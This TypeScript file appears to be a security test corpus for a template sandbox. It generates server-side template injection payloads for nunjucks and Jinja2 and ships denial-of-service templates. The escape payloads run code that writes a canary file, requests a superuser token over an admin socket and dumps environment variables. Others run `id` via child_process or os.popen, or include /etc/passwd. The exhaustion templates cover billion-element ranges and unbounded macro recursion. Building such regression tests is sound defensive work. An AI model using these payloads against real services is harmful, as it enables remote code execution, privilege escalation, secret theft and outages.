/**
 * Server-side template injection payloads for nunjucks and Jinja2, and templates that try to
 * exhaust time, memory or the stack. Each escape payload tries to run `body` (JavaScript that
 * touches the canary file and reads the environment) by any route to a code constructor.
 */

/** Where an escape would leave its marks: a file it writes, the service's admin socket. */
export interface CanaryTargets {
  file: string;
  /** The data directory's `run/admin.sock`: an escape there asks for a superuser's token. */
  adminSocket?: string;
}

/**
 * JavaScript an escape would run: write the canary file, ask the admin socket for a token
 * of the superuser (as the attack on issue 27 did), then answer the environment.
 */
export function escapeBody(targets: CanaryTargets | string): string {
  const { file, adminSocket } = typeof targets === 'string' ? { file: targets, adminSocket: undefined } : targets;
  const quoted = (text: string) => JSON.stringify(text).replace(/"/g, "'");
  const socket = adminSocket
    ? `p.getBuiltinModule('net').connect(${quoted(adminSocket)}).end(${quoted('{"command":"create-token","input":{"username":"admin"}}\n')});`
    : '';
  return [
    `var p = typeof process === 'object' ? process : globalThis.process;`,
    `p.getBuiltinModule('fs').writeFileSync(${quoted(file)}, 'escaped');`,
    socket,
    `return 'ESCAPED ' + JSON.stringify(p.env);`,
  ].join(' ');
}

/** Issue 27's own payload, as filed: it ran `id` as root through `?export=` and webhooks. */
export const ISSUE_PAYLOAD = `{% set j = joiner("constructor") %}{{ range[{"toString": j}]("return process.getBuiltinModule('child_process').execSync('id').toString()")() }}`;

export function injectionCorpus(targets: CanaryTargets | string): Record<string, string> {
  const body = JSON.stringify(escapeBody(targets));
  return {
    "issue 27's payload, as filed": ISSUE_PAYLOAD,
    'range.constructor': `{{ range.constructor(${body})() }}`,
    'cycler.constructor': `{{ cycler.constructor(${body})() }}`,
    'joiner.constructor': `{{ joiner.constructor(${body})() }}`,
    'a bare constructor name': `{{ constructor.constructor(${body})() }}`,
    'joiner as a key that changes on each conversion': `{% set j = joiner("constructor") %}{{ range[{"toString": j}](${body})() }}`,
    'cycler.next as a key': `{% set c = cycler("name", "constructor") %}{{ range[{"toString": c.next}](${body})() }}`,
    'valueOf as a key': `{% set j = joiner("constructor") %}{{ range[{"valueOf": j, "toString": j}](${body})() }}`,
    'string literal constructor': `{{ ""["constructor"]["constructor"](${body})() }}`,
    'string __proto__': `{{ "".__proto__.constructor.constructor(${body})() }}`,
    'dict method constructor': `{{ {}.valueOf.constructor(${body})() }}`,
    'dict.get of constructor': `{{ {}.get("constructor").constructor(${body})() }}`,
    'dict.get with a converting key': `{% set j = joiner("constructor") %}{{ {}.get({"toString": j}).constructor(${body})() }}`,
    'dict.update of __proto__': `{% set d = {} %}{{ d.update({"__proto__": range}) }}{{ d.constructor(${body})() }}`,
    'dict.setdefault of constructor': `{% set d = {} %}{{ d.setdefault("constructor", 1) }}{{ d.constructor }}`,
    'macro constructor': `{% macro m() %}x{% endmacro %}{{ m.constructor(${body})() }}`,
    'caller constructor': `{% macro m() %}{{ caller.constructor(${body})() }}{% endmacro %}{% call m() %}x{% endcall %}`,
    'array method constructor': `{{ range(3).map.constructor(${body})() }}`,
    'function call/apply/bind': `{{ range.call.call(range.constructor, null, ${body})() }}{{ range.bind.apply }}`,
    'number constructor': `{{ (1).constructor.constructor(${body})() }}`,
    'data constructor': `{{ data.constructor.constructor(${body})() }}{{ queryset.constructor.constructor(${body})() }}`,
    'queryset.all constructor': `{{ queryset.all.constructor(${body})() }}`,
    'attribute filters': `{{ [range]|sort(false, false, "constructor") }}{{ [range]|groupby("constructor") }}{{ [range]|join(",", "constructor") }}`,
    'attribute filter with a converting key': `{% set j = joiner("constructor") %}{{ [range]|join(",", {"toString": j}) }}`,
    'prototype chain names': `{{ range.prototype }}{{ range.__proto__ }}{{ __proto__ }}{{ range.caller }}{{ range.arguments }}`,
    'Jinja2 classics': `{{ self.__init__.__globals__ }}{{ ''.__class__.__mro__[1].__subclasses__() }}{{ config.items() }}{{ request.application.__globals__.__builtins__ }}{{ lipsum.__globals__ }}{{ cycler.__init__.__globals__.os.popen('id').read() }}`,
    'include a file': `{% include "/etc/passwd" %}`,
    'import a module': `{% import "fs" as fs %}{{ fs }}`,
    'extends a file': `{% extends "/etc/hostname" %}`,
    'this and globals': `{{ this }}{{ globalThis }}{{ process }}{{ require }}{{ module }}{{ global }}`,
    'a function as a filter argument': `{{ range(3)|groupby(range.constructor) }}`,
  };
}

/** Templates that would hold a thread or exhaust its memory or stack. */
export const EXHAUSTION: Record<string, string> = {
  'range(1e9)': `{{ range(1000000000)|length }}`,
  'nested n² loop': `{% for i in range(100000) %}{% for j in range(100000) %}{{ j }}{% endfor %}{% endfor %}`,
  'string doubling': `{% set s = "x" %}{% for i in range(64) %}{% set s = s + s %}{% endfor %}{{ s|length }}`,
  'a huge padded string': `{{ "x"|center(1000000000) }}`,
  'arrays of arrays': `{% set l = [] %}{% for i in range(100000) %}{{ l.push(range(100000))|string|length }}{% endfor %}`,
  'deep recursion through macros': `{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}`,
  'mutual recursion': `{% macro a(n) %}{{ b(n) }}{% endmacro %}{% macro b(n) %}{{ a(n) }}{% endmacro %}{{ a(1) }}`,
};
